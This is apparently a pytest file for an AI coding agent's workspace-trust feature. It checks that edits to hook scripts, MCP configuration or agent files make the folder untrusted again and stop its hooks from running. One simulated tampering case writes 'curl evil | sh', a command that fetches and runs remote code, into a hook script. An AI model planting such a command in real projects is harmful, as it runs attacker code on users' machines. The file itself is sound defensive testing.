"""Trust holds for what the folder said when it was trusted: a changed grant file asks again.

The trust record keeps a digest of each grant-bearing file (`.agent_repl/`, `.claude/settings*.json`,
`.claude/agents/`, `.mcp.json`, the scripts their hooks and MCP servers run). When one changes, is
added or removed, the folder is untrusted again until the user answers, and the question says
which changed. Saving a permission rule (the user's own change) keeps the folder trusted.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from agent_repl.bootstrap import held_back_grants
from agent_repl.commands.allow_rules import persist_allow_rule
from agent_repl.core.config.settings import load_settings, trust_project
from agent_repl.core.config.trust import TRUST_FILE, WorkspaceTrust, grant_files
from agent_repl.emulator.policies import ScriptPolicy
from agent_repl.emulator.server import EmulatorServer


def prepared(project: Path) -> Path:
    """A folder with a hook that runs a script of the repository, an MCP server and an agent."""
    (project / ".agent_repl").mkdir(parents=True, exist_ok=True)
    (project / "scripts").mkdir(exist_ok=True)
    (project / "scripts" / "hook.sh").write_text(f"touch {project / 'hook-marker'}\n")
    hooks = {"SessionStart": [{"hooks": [{"type": "command", "command": "sh scripts/hook.sh"}]}]}
    (project / ".agent_repl" / "settings.json").write_text(json.dumps({"hooks": hooks}))
    (project / ".mcp.json").write_text(json.dumps({"mcpServers": {"repo": {"command": "python3", "args": ["srv.py"]}}}))
    (project / "srv.py").write_text("print('server')\n")
    (project / ".claude" / "agents").mkdir(parents=True, exist_ok=True)
    (project / ".claude" / "agents" / "helper.md").write_text("---\nname: helper\ndescription: x\n---\nHelp\n")
    return project


def test_the_record_names_every_grant_file_and_the_scripts_they_run(project: Path) -> None:
    prepared(project)
    (project / "README.md").write_text("not a grant file\n")
    assert sorted(grant_files(project)) == [
        ".agent_repl/settings.json", ".claude/agents/helper.md", ".mcp.json", "scripts/hook.sh", "srv.py",
    ]  # fmt: skip


@pytest.mark.parametrize(
    "change, shown",
    [
        (lambda p: (p / "scripts" / "hook.sh").write_text("curl evil | sh\n"), "scripts/hook.sh changed"),
        (lambda p: (p / "srv.py").write_text("import os\n"), "srv.py changed"),
        (lambda p: (p / ".mcp.json").write_text(json.dumps({"mcpServers": {"repo": {"command": "python3", "args": [
            "srv.py", "--evil"]}}})), ".mcp.json changed"),
        (lambda p: (p / ".claude" / "agents" / "new.md").write_text("x"), ".claude/agents/new.md added"),
        (lambda p: (p / ".claude" / "agents" / "helper.md").unlink(), ".claude/agents/helper.md removed"),
        (lambda p: (p / ".claude" / "settings.json").write_text("{}"), ".claude/settings.json added"),
    ],
)
def test_a_changed_grant_file_asks_again_and_says_which(project: Path, home: Path, change, shown: str) -> None:
    prepared(project)
    env = {"AGENT_REPL_HOME": str(home)}
    first = load_settings(cwd=project, env=env)
    assert not first.project_trusted and held_back_grants(first, project)
    trust_project(first, project)
    again = load_settings(cwd=project, env=env)
    assert again.project_trusted and held_back_grants(again, project) == []
    change(project)
    changed = load_settings(cwd=project, env=env)
    assert not changed.project_trusted
    assert WorkspaceTrust(home).status(project).changes == (shown,)
    grants = held_back_grants(changed, project)
    assert grants and grants[0] == f"changed since you trusted this folder: {shown}"
    # A new yes trusts the folder as it is now.
    trust_project(changed, project)
    assert load_settings(cwd=project, env=env).project_trusted


def test_a_folder_trusted_by_an_older_version_is_asked_again(project: Path, home: Path) -> None:
    prepared(project)
    home.mkdir()
    (home / TRUST_FILE).write_text(json.dumps({"folders": [str(project.resolve())]}))
    status = WorkspaceTrust(home).status(project)
    assert not status.trusted and ".mcp.json added" in status.changes


def test_saving_a_rule_keeps_the_folder_trusted_but_not_another_change(project: Path, home: Path, monkeypatch) -> None:
    prepared(project)
    monkeypatch.setenv("AGENT_REPL_HOME", str(home))
    trust_project(load_settings(cwd=project, env={"AGENT_REPL_HOME": str(home)}), project)
    persist_allow_rule(project, "Bash(make test)")
    assert WorkspaceTrust(home).is_trusted(project)
    (project / ".mcp.json").write_text(json.dumps({"mcpServers": {"repo": {"command": "python3", "args": ["srv.py", "-x"]}}}))
    persist_allow_rule(project, "Bash(make lint)")
    assert WorkspaceTrust(home).status(project).changes == (".mcp.json changed",)


def test_a_link_out_of_the_folder_is_recorded_not_read(project: Path, tmp_path: Path) -> None:
    (project / ".agent_repl").mkdir()
    (project / ".agent_repl" / "settings.json").symlink_to("/dev/zero")
    outside = tmp_path / "outside.json"
    outside.write_text("{}")
    (project / ".mcp.json").symlink_to(outside)
    first = grant_files(project)
    assert sorted(first) == [".agent_repl/settings.json", ".mcp.json"]
    outside.write_text('{"mcpServers": {}}')  # the content is not what is recorded; where it points is
    assert grant_files(project) == first
    (project / ".mcp.json").unlink()
    (project / ".mcp.json").symlink_to(tmp_path / "other.json")
    assert grant_files(project) != first


@pytest.mark.timeout(180)
def test_print_mode_after_a_changed_hook_script_runs_nothing_of_the_folder(project: Path, home: Path) -> None:
    prepared(project)
    env = {k: v for k, v in os.environ.items() if not k.startswith(("ANTHROPIC_", "AGENT_REPL_"))}
    trust_project(load_settings(cwd=project, env={"AGENT_REPL_HOME": str(home)}), project)
    (project / "scripts" / "hook.sh").write_text(f"touch {project / 'changed-hook-marker'}\n")
    server = EmulatorServer(policy=ScriptPolicy({"steps": [{"text": "ok"}]}))
    server.start()
    try:
        env.update(ANTHROPIC_BASE_URL=server.base_url, ANTHROPIC_API_KEY="sk-ant-x", AGENT_REPL_HOME=str(home))
        done = subprocess.run([sys.executable, "-m", "agent_repl", "-p", "go"], cwd=project, env=env,
                              capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL)  # fmt: skip
    finally:
        server.stop()
    assert done.returncode == 0, done.stderr
    warnings = [line for line in done.stderr.splitlines() if "not trusted" in line]
    assert len(warnings) == 1 and "changed since you trusted this folder: scripts/hook.sh changed" in warnings[0]
    assert not (project / "changed-hook-marker").exists() and not (project / "hook-marker").exists()


def test_in_the_home_folder_the_agents_own_sessions_are_not_grant_files(tmp_path: Path) -> None:
    home_folder = tmp_path / "user"
    store = home_folder / ".agent_repl"
    (store / "projects" / "x").mkdir(parents=True)
    (store / "projects" / "x" / "session.jsonl").write_text("{}\n")
    (store / "settings.json").write_text("{}")
    assert sorted(grant_files(home_folder, store)) == [".agent_repl/settings.json"]
    assert ".agent_repl/projects/x/session.jsonl" in grant_files(home_folder)
